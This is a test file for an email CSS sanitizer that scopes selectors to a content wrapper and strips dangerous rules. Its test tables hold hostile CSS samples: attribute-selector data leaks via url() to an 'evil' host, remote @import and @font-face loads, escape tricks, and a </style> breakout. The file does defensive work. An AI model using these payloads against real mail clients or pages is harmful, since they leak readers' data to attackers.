import { expect, test } from 'vitest'
import { keepSafeRules } from '../../../../src/channels/email/message/style-rules.js'

test.each([
  ['p { color: #333; margin: 0 auto }', '.nt-content p{color: #333;margin: 0 auto}'],
  [
    'td.a > b, #c:hover { font: 12px/1.5 "Segoe UI", Arial; background: rgba(0, 0, 0, .5) !important }',
    '.nt-content td.a > b,.nt-content #c:hover{font: 12px/1.5 "Segoe UI", Arial;background: rgba(0, 0, 0, .5) !important}',
  ],
  [
    '@media only screen and (max-width: 600px) { .w { width: 100% } p { padding: 0 } }',
    '@media only screen and (max-width: 600px){.nt-content .w{width: 100%}.nt-content p{padding: 0}}',
  ],
  ['/* a } */ p /* b */ { color: red /* c */ }', '.nt-content p{color: red}'],
  ['@charset "utf-8"; p { color: red }', '.nt-content p{color: red}'],
])('what only looks stays: %s', (css, kept) => {
  expect(keepSafeRules(css).replaceAll(/ +/g, ' ')).toBe(kept)
})

test.each([
  ['an attribute selector', 'a[href^="https://n/A"] { background: url(https://evil/A) }'],
  ['an attribute selector that loads nothing itself', 'body:has(a[href*=A]) .probe { display: block }'],
  ['an attribute selector behind :is', ':is(a[href^=A]) { color: red }'],
  ['an escaped bracket', 'a\\5b href^=A\\5d { color: red }'],
  ['a picture', 'p { background-image: url(https://evil/) }'],
  ['a picture with an escape', 'p { background: u\\72l(https://evil/) }'],
  ['a picture by its set', 'p { background: image-set("https://evil/" 1x) }'],
  ['a picture without quotes', 'p { list-style: URL( //evil ) }'],
  ['a variable', 'p { --x: url(https://evil/); background: var(--x) }'],
  ['an attribute as text', 'a::after { content: attr(href) }'],
  ['text by itself', 'a::after { content: "x" }'],
  ['an import', '@import "https://evil/x.css";'],
  ['an import by url', "@import url('https://evil/x.css') screen;"],
  ['a font', '@font-face { font-family: x; src: url(https://evil/); unicode-range: U+41 }'],
  ['a container', '@container (width > 10px) { .p { display: block } }'],
  ['support of an attribute', '@supports selector(a[href]) { p { color: red } }'],
  ['nested rules', 'p { a[href^=A] { color: red } }'],
  ['nested rules in media', '@media screen { p { & a[href] { color: red } } }'],
  ['a filter of old browsers', "p { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://evil/') }"],
  ['a behavior', 'p { behavior: none }'],
  ['an end of the element', 'p { color: red</style><img src=x> }'],
  ['what is left open', 'p { color: red'],
])('what can tell goes: %s', (_, css) => {
  expect(keepSafeRules(css)).toBe('')
})

test('a rule loses only what can tell', () => {
  expect(keepSafeRules('p, a[href] { color: red; background: url(x); margin: 0 }')).toBe('.nt-content p{color: red;margin: 0}')
})

test.each([
  ['p', '.nt-content p'],
  ['*', '.nt-content *'],
  ['body', '.nt-content>div'],
  ['BODY.a > p', '.nt-content>div.a > p'],
  ['html body p', '.nt-content>div p'],
  ['html > body', '.nt-content>div'],
  ['html', '.nt-content'],
  [':root', '.nt-content'],
  ['bodytext', '.nt-content bodytext'],
  ['html-x', '.nt-content html-x'],
])('the selector %s selects inside the content alone: %s', (selector, confined) => {
  expect(keepSafeRules(`${selector}{color:red}`)).toBe(`${confined}{color:red}`)
})

test.each(['~ p', '+ p', '> p', 'html ~ p', 'html + p', ':root ~ *'])(
  '%s would select what follows the content: it goes',
  selector => {
    expect(keepSafeRules(`${selector}{display:none}`)).toBe('')
  },
)

test('a megabyte of braces takes no more than a moment', () => {
  for (const piece of ['{', '}', '{}', 'p{', '/*', '@media{', 'p{a:b}', '"'])
    keepSafeRules(piece.repeat(1_048_576 / piece.length))
})
